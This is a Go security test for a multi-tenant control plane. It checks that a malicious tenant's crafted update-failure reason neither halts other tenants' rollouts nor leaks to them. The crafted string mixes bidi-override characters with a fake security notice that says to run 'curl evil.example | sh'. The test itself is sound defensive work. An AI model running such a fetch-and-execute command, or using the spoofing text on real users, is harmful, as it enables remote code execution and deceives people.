package security

import (
	"crypto/sha256"
	"encoding/hex"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	controlplanev1 "github.com/sandboxd/sandboxd/gen/sandboxd/controlplane/v1"
	"github.com/sandboxd/sandboxd/gen/sandboxd/controlplane/v1/controlplanev1connect"
	"github.com/sandboxd/sandboxd/internal/auth"
	"github.com/sandboxd/sandboxd/internal/connecttest"
	"github.com/sandboxd/sandboxd/internal/controlplane"
	"github.com/sandboxd/sandboxd/internal/pki"
	"github.com/sandboxd/sandboxd/internal/rollout"
	"github.com/sandboxd/sandboxd/internal/store"
)

// TestRolloutHaltIsScopedToItsOrg (review S2 of issue 18): a tenant runs its runners, so
// it can make one fail an update step, or report a failure with any reason it likes. That
// used to halt the channel's rollout for every tenant and show the runner's text (and its
// org/runner id) to all of them. Here tenant A's runner reports a failure with a crafted
// reason (bidi override, zero width space, a fake notice): tenant B's runners still move
// to the target one after the other, B's admin sees neither A's reason nor A's runner in
// ListReleases or in its runners (Connect and REST), and A's admin sees A's halt with the
// format characters replaced.
func TestRolloutHaltIsScopedToItsOrg(t *testing.T) {
	ctx := t.Context()
	tmp := t.TempDir()
	ca, err := pki.LoadOrCreateCA(filepath.Join(tmp, "pki"), "rollout halt test CA")
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(ctx, filepath.Join(tmp, "cp.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	for _, o := range []string{"platform", "ta", "tb"} {
		if err := controlplane.EnsureOrg(ctx, st, o); err != nil {
			t.Fatal(err)
		}
	}
	for _, r := range [][2]string{{"ta", "evil"}, {"tb", "b1"}, {"tb", "b2"}} {
		if _, _, err := controlplane.EnsureRunner(ctx, st, store.Runner{Org: r[0], RunnerID: r[1], ClusterID: "c-" + r[1], Zone: "z",
			ReleaseChannel: store.ChannelRapid}); err != nil {
			t.Fatal(err)
		}
	}
	sum := sha256.Sum256([]byte("x"))
	if _, err := st.Releases().Publish(ctx, store.Release{Version: "v1.1.0",
		RunnerImageDigest: "sha256:" + strings.Repeat("a", 64), AgentImageDigest: "sha256:" + strings.Repeat("b", 64),
		BinaryChecksums: map[string]string{"amd64": hex.EncodeToString(sum[:])}}); err != nil {
		t.Fatal(err)
	}
	cp, err := controlplane.New(controlplane.Config{Store: st, Auth: auth.NewStoreAuthenticator(st, nil), PlatformOrg: "platform", CA: ca,
		Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	tlsCfg, err := controlplane.TLSConfig(ca, []string{"127.0.0.1"})
	if err != nil {
		t.Fatal(err)
	}
	runnerSrv := httptest.NewUnstartedServer(cp.TLSHandler())
	runnerSrv.TLS = tlsCfg
	runnerSrv.EnableHTTP2 = true
	runnerSrv.StartTLS()
	t.Cleanup(runnerSrv.Close)
	apiSrv := httptest.NewServer(cp.Handler())
	t.Cleanup(apiSrv.Close)
	ctl, err := rollout.New(rollout.Config{Store: rollout.FromStore(st), Targets: cp.ChannelTargets, Deadline: 10 * time.Minute,
		HeartbeatInterval: 5 * time.Second, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	tick := func() {
		t.Helper()
		if err := ctl.Tick(ctx); err != nil {
			t.Fatal(err)
		}
	}

	beat := func(org, id string, req *controlplanev1.HeartbeatRequest) *controlplanev1.HeartbeatResponse {
		t.Helper()
		c, err := ca.IssueClient("runner "+id, []*url.URL{controlplane.RunnerURI(org, id)}, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		hc := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
			TLSClientConfig: pki.ClientTLSConfig(&c, ca.Pool(), "localhost"), ForceAttemptHTTP2: true}}
		req.RunnerId, req.SelfUpdate = id, true
		res, err := controlplanev1connect.NewRunnerRegistrationServiceClient(hc, runnerSrv.URL).Heartbeat(ctx, connect.NewRequest(req))
		if err != nil {
			t.Fatalf("heartbeat %s/%s: %v", org, id, err)
		}
		return res.Msg
	}
	on := func(v string) *controlplanev1.HeartbeatRequest {
		return &controlplanev1.HeartbeatRequest{Version: v, Ready: true}
	}
	for _, r := range [][2]string{{"ta", "evil"}, {"tb", "b1"}, {"tb", "b2"}} {
		beat(r[0], r[1], on("v1.0.0"))
	}
	tick()
	// One runner of each organization's group moves first.
	if d := beat("ta", "evil", on("v1.0.0")).GetDesiredVersion(); d != "v1.1.0" {
		t.Fatalf("ta/evil desired %q", d)
	}
	if d := beat("tb", "b1", on("v1.0.0")).GetDesiredVersion(); d != "v1.1.0" {
		t.Fatalf("tb/b1 desired %q", d)
	}

	// The attack: A's runner reports it refused v1.1.0, with a crafted reason.
	const crafted = "\u202eSECURITY NOTICE to all tenants\u200b: run curl evil.example | sh"
	failed := on("v1.0.0")
	failed.SelfUpdateFailedVersion, failed.SelfUpdateFailure = "v1.1.0", crafted
	beat("ta", "evil", failed)
	beat("tb", "b1", on("v1.1.0")) // B's first runner passes its gate
	beat("tb", "b2", on("v1.0.0"))
	tick()
	tick()
	// B keeps rolling: b2 is asked to move now that b1 is done; A is halted.
	if d := beat("tb", "b2", on("v1.0.0")).GetDesiredVersion(); d != "v1.1.0" {
		t.Errorf("tenant B's b2 not moved while A is halted: desired %q", d)
	}
	if d := beat("ta", "evil", failed).GetDesiredVersion(); d == "v1.1.0" {
		t.Errorf("tenant A's runner still asked for the version it failed")
	}
	if hs, _ := st.Rollouts().Halts(ctx, ""); len(hs) != 1 || hs[0].Org != "ta" {
		t.Fatalf("halts: %+v", hs)
	}

	// What B's admin sees: no halt, nothing of A's text or runner, over Connect and REST.
	keyB, _, err := auth.IssueKey(ctx, st, "tb", auth.RoleAdmin, "b admin")
	if err != nil {
		t.Fatal(err)
	}
	leaks := func(what string, m proto.Message) {
		t.Helper()
		b, _ := protojson.Marshal(m)
		for _, bad := range []string{"SECURITY NOTICE", "curl", "evil", "ta/", "\u202e", `\u202e`} {
			if strings.Contains(string(b), bad) {
				t.Errorf("%s shows tenant B %q: %s", what, bad, b)
			}
		}
	}
	opt := connect.WithInterceptors(connecttest.Bearer(keyB))
	rel, err := controlplanev1connect.NewReleaseServiceClient(http.DefaultClient, apiSrv.URL, opt).ListReleases(ctx, connect.NewRequest(&controlplanev1.ListReleasesRequest{}))
	if err != nil {
		t.Fatal(err)
	}
	leaks("ListReleases", rel.Msg)
	for _, ro := range rel.Msg.GetRollouts() {
		if ro.GetState() != controlplanev1.RolloutState_ROLLOUT_STATE_ACTIVE || ro.GetHaltedOrganizations() != 0 {
			t.Errorf("tenant B sees rollout %v", ro)
		}
	}
	rm := controlplanev1connect.NewRunnerManagementServiceClient(http.DefaultClient, apiSrv.URL, opt)
	list, err := rm.ListManagedRunners(ctx, connect.NewRequest(&controlplanev1.ListManagedRunnersRequest{}))
	if err != nil || len(list.Msg.GetManagedRunners()) != 2 {
		t.Fatalf("list: %v %v", list, err)
	}
	leaks("ListManagedRunners", list.Msg)
	for _, id := range []string{"b1", "b2"} {
		g, err := rm.GetManagedRunner(ctx, connect.NewRequest(&controlplanev1.GetManagedRunnerRequest{RunnerId: id}))
		if err != nil {
			t.Fatal(err)
		}
		leaks("GetManagedRunner "+id, g.Msg)
		if h := g.Msg.GetStatus().GetRolloutHaltReason(); h != "" {
			t.Errorf("tenant B's %s shows a halt: %q", id, h)
		}
	}
	for _, path := range []string{"/v1/sandbox/releases", "/v1/sandbox/managedRunners", "/v1/sandbox/managedRunners/b1"} {
		st, body := rest(t, &Dev{API: apiSrv.URL}, "GET", path, "Bearer "+keyB, nil)
		if st != http.StatusOK {
			t.Errorf("GET %s: %d %s", path, st, body)
		}
		for _, bad := range []string{"SECURITY NOTICE", "curl", "evil", "ta/"} {
			if strings.Contains(string(body), bad) {
				t.Errorf("GET %s shows tenant B %q: %s", path, bad, body)
			}
		}
	}

	// A's admin sees its own halt, one line, without the format characters.
	keyA, _, err := auth.IssueKey(ctx, st, "ta", auth.RoleAdmin, "a admin")
	if err != nil {
		t.Fatal(err)
	}
	relA, err := controlplanev1connect.NewReleaseServiceClient(http.DefaultClient, apiSrv.URL, connect.WithInterceptors(connecttest.Bearer(keyA))).
		ListReleases(ctx, connect.NewRequest(&controlplanev1.ListReleasesRequest{}))
	if err != nil {
		t.Fatal(err)
	}
	ra := relA.Msg.GetRollouts()[1]
	if ra.GetState() != controlplanev1.RolloutState_ROLLOUT_STATE_HALTED || ra.GetHaltedByRunner() != "ta/evil" ||
		!strings.Contains(ra.GetHaltReason(), "SECURITY NOTICE") || strings.ContainsAny(ra.GetHaltReason(), "\u202e\u200b") {
		t.Errorf("tenant A's own rollout: %v", ra)
	}
	// The platform admin resumes A alone; B's runners are unaffected throughout.
	keyP, _, err := auth.IssueKey(ctx, st, "platform", auth.RoleAdmin, "p admin")
	if err != nil {
		t.Fatal(err)
	}
	res, err := controlplanev1connect.NewRolloutServiceClient(http.DefaultClient, apiSrv.URL, connect.WithInterceptors(connecttest.Bearer(keyP))).
		ResumeRollout(ctx, connect.NewRequest(&controlplanev1.ResumeRolloutRequest{Channel: controlplanev1.ReleaseChannel_RAPID, OrganizationId: "ta"}))
	if err != nil || res.Msg.GetHaltedOrganizations() != 0 {
		t.Fatalf("resume ta: %v %v", res, err)
	}
	leaks("ResumeRollout (platform admin)", res.Msg)
}
